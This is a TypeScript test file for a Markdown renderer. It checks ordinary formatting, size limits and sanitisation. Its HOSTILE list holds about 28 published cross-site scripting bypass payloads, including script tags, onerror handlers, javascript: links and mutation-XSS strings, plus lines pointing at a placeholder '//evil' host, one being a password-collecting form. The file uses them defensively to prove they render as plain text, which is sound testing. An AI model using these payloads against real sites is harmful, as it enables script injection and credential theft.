import assert from "node:assert/strict";
import { checkTree } from "../rendering/check_tree.ts";
import { renderBlock } from "../rendering/render_block.tsx";

function draw(source: string): string {
  const checked = checkTree([{ ui: "Markdown", props: { source } }]);
  assert.ok(checked.kind === "ok");
  const context = { locale: "en", timeZone: "UTC", now: 0, blockId: "abc", imageHref: (src: string) => src };
  return renderBlock(checked.tree, context).html.replace(/^<div[^>]*><div class="k-markdown">/, "").replace(
    /<\/div><\/div>$/,
    "",
  );
}

Deno.test("Markdown draws the usual forms", () => {
  assert.equal(draw("# Title"), "<h3>Title</h3>");
  assert.equal(draw("a **b** *c* `d<e`"), "<p>a <strong>b</strong> <em>c</em> <code>d&lt;e</code></p>");
  assert.equal(draw("- one\n- two"), "<ul><li>one</li><li>two</li></ul>");
  assert.equal(draw("3. x"), '<ol start="3"><li>x</li></ol>');
  assert.match(draw("| a | b |\n|---|---|\n| 1 | 2 |"), /<th>a<\/th>.*<td>2<\/td>/);
  assert.equal(draw("```ts\nlet a = 1 < 2;\n```"), "<pre><code>let a = 1 &lt; 2;</code></pre>");
  assert.match(
    draw("[x](https://a.example)"),
    /<a href="https:\/\/a.example\/" target="_blank" rel="noopener noreferrer nofollow">x<\/a>/,
  );
  assert.equal(draw("AT&amp;T &#39;q&#39; &copy;"), "<p>AT&amp;T 'q' &amp;copy;</p>");
});

Deno.test("Markdown turns pictures into links", () => {
  const html = draw("![alt](https://a.example/x.png)");
  assert.doesNotMatch(html, /<img/);
  assert.match(html, /<a href="https:\/\/a.example\/x.png"[^>]*>alt<\/a>/);
});

/** Payloads of published bypasses of sanitizers; as text they are harmless words. */
const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="javascript:alert(1)">x</a>',
  "[x](javascript:alert(1))",
  "[x](  javascript:alert(1))",
  "[x](JaVaScRiPt&colon;alert(1))",
  "[x](&#x6a;avascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:x)",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  '![x" onerror="alert(1)](https://a.example)',
  '[x](https://a.example "title" onclick="alert(1)")',
  "[a]: javascript:alert(1)\n[a]",
  "`<script>`alert(1)`</script>`",
  "- <b onmouseover=alert(1)>x</b>",
  "> <iframe src=//evil>",
  "| <script> | x |\n|---|---|\n| <img onerror=x> | y |",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<style>@import '//evil'</style>",
  "<form action=//evil><input name=password></form>",
  "<div hx-get=/x x-data=y @click=z>",
  "\u0000<scr\u0000ipt>alert(1)</script>",
];
const ALLOWED =
  /^(?:p|h[3-6]|ul|ol|li|em|strong|del|code|pre|blockquote|a|span|table|thead|tbody|tr|th|td|br|hr)$/;
for (const source of HOSTILE) {
  Deno.test(`Markdown shows ${JSON.stringify(source.slice(0, 50))} as words (attack 113)`, () => {
    const html = draw(source);
    for (const [, tag, attributes] of html.matchAll(/<([a-zA-Z!][^\s>]*)((?:\s[^>]*)?)>/g)) {
      assert.match(tag ?? "", ALLOWED);
      assert.doesNotMatch(attributes ?? "", /\son\w+=|javascript:|style=|hx-|src=/i);
    }
  });
}

Deno.test("Markdown is bounded in depth and length", () => {
  assert.ok(draw("> ".repeat(500) + "deep").length < 20_000);
  assert.equal(checkTree([{ ui: "Markdown", props: { source: "x".repeat(20_001) } }]).kind, "refused");
});

Deno.test("Markdown with more marks, or deeper on one line, than a page has stays the text that it is", () => {
  // As emphasis these took seconds each, at every look at the dashboard.
  for (const source of ["*a_".repeat(6_000), "_a*".repeat(6_000), "x [a](".repeat(3_000)]) {
    assert.equal(draw(source), `<p>${source}</p>`);
  }
  const deep = "> ".repeat(10_000).trim();
  assert.equal(draw(deep), `<p>${deep}</p>`);
  assert.match(draw(`${"-".repeat(60)}\n**a**`), /<hr\/?><p><strong>a/);
  assert.match(draw("**bold** ".repeat(25).trim()), /<strong>bold<\/strong> <strong>/);
});
